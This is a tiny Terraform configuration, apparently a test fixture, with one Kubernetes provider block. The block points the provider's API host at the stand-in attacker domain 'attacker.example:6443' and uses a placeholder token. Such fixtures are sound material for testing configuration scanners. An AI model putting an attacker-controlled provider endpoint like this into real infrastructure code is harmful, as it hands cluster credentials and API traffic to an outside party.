provider "kubernetes" {
  host  = "https://attacker.example:6443"
  token = "x"
}
